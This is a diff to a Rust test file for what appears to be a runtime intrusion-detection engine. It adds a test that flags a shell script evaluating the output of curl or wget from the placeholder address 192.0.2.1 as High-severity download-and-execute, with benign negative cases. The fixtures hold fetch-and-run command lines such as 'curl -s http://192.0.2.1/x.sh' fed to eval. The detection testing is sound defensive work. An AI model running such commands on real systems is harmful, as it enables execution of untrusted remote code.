@@ -103,6 +103,7 @@ fn exec_event(exe: &str, f: impl FnOnce(&mut ExecInfo)) -> Event {
         env_truncated: false,
         glibc_tunables: false,
         setuid: false,
+        script_evals: Vec::new(),
     };
     f(&mut e);
     Event::Exec(Box::new(e))
@@ -6500,6 +6501,94 @@ fn an_interpreter_connected_out_running_what_it_reads_is_a_reverse_shell() {
         ],
     ] {
         let found = loop_rule(&events);
+        assert!(found.is_empty(), "{found:?}");
+    }
+}
+
+#[test]
+fn a_download_a_script_hands_to_eval_is_download_and_execute() {
+    let script = |evals: &[&str]| {
+        let mut e = exec_by(
+            440,
+            "/usr/bin/bash",
+            &["bash", "/root/setup.sh"],
+            &[(200, "/usr/bin/bash")],
+        );
+        if let Event::Exec(x) = &mut e {
+            x.script_evals = evals.iter().map(|s| (*s).to_owned()).collect();
+        }
+        e
+    };
+    let fetch = |exe: &str, argv: &[&str], captured: bool| {
+        let mut e = exec_by(
+            441,
+            exe,
+            argv,
+            &[(440, "/usr/bin/bash"), (200, "/usr/bin/bash")],
+        );
+        if let Event::Exec(x) = &mut e {
+            x.stdout_pipe = captured.then_some(88);
+        }
+        e
+    };
+    let curl = || {
+        fetch(
+            "/usr/bin/curl",
+            &["curl", "-s", "http://192.0.2.1/x.sh"],
+            true,
+        )
+    };
+    let evaluated = |events: &[Event]| {
+        run_all(events)
+            .into_iter()
+            .filter(|(_, r, _)| r == "behaviour-download-pipe-exec")
+            .collect::<Vec<_>>()
+    };
+    for evals in [
+        vec!["curl -s http://192.0.2.1/x.sh"],
+        vec!["ssh-agent -s", "/usr/bin/curl -fsSL http://192.0.2.1/x.sh"],
+    ] {
+        assert_eq!(
+            evaluated(&[script(&evals), curl()]),
+            vec![(
+                "Execution:Runtime/SuspiciousCommand".to_owned(),
+                "behaviour-download-pipe-exec".to_owned(),
+                SeverityLabel::High
+            )],
+            "{evals:?}"
+        );
+    }
+    assert_eq!(
+        evaluated(&[
+            script(&["wget -qO- http://192.0.2.1/x"]),
+            fetch(
+                "/usr/bin/wget",
+                &["wget", "-qO-", "http://192.0.2.1/x"],
+                true
+            ),
+        ])
+        .len(),
+        1
+    );
+    // A script that evaluates something else (ssh-agent), or nothing, fetching a value; a
+    // download to a file; a program that is no downloader named by the eval.
+    for events in [
+        vec![script(&["ssh-agent -s"]), curl()],
+        vec![script(&[]), curl()],
+        vec![
+            script(&["curl -s http://192.0.2.1/x.sh"]),
+            fetch(
+                "/usr/bin/curl",
+                &["curl", "-o", "x", "http://192.0.2.1/x"],
+                false,
+            ),
+        ],
+        vec![
+            script(&["dircolors -b"]),
+            fetch("/usr/bin/dircolors", &["dircolors", "-b"], true),
+        ],
+    ] {
+        let found = evaluated(&events);
         assert!(found.is_empty(), "{found:?}");
     }
 }
